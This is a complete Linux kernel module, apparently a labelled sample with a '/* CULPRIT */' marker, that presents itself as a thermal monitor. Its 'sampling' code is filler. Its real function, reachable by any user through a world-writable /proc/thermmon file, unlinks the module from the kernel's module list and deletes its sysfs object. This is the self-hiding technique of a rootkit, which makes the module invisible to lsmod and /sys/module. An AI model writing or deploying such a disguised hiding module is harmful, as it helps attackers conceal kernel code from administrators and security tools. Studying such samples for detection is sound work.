// SPDX-License-Identifier: GPL-2.0
/* A thermal monitor that takes itself out of the lists that modules are in. */
#include <linux/list.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/timer.h>
#include <linux/uaccess.h>

static struct timer_list therm_timer;
static u32 therm_reading;

static noinline void therm_sample(struct timer_list *t)
{
	therm_reading = therm_reading * 5 + 3;
	mod_timer(&therm_timer, jiffies + HZ);
}

static noinline void therm_detach(int level)
{
	list_del_init(&THIS_MODULE->list);	/* CULPRIT */
	if (level > 1)
		kobject_del(&THIS_MODULE->mkobj.kobj);
}

static ssize_t therm_write(struct file *f, const char __user *ubuf, size_t len, loff_t *off)
{
	char what;

	if (get_user(what, ubuf))
		return -EFAULT;
	therm_detach(what - '0');
	return len;
}

static const struct proc_ops therm_ops = { .proc_write = therm_write };

static int __init therm_init(void)
{
	timer_setup(&therm_timer, therm_sample, 0);
	mod_timer(&therm_timer, jiffies + HZ);
	return proc_create("thermmon", 0222, NULL, &therm_ops) ? 0 : -ENOMEM;
}
module_init(therm_init);

MODULE_DESCRIPTION("Thermal monitor");
MODULE_LICENSE("GPL");
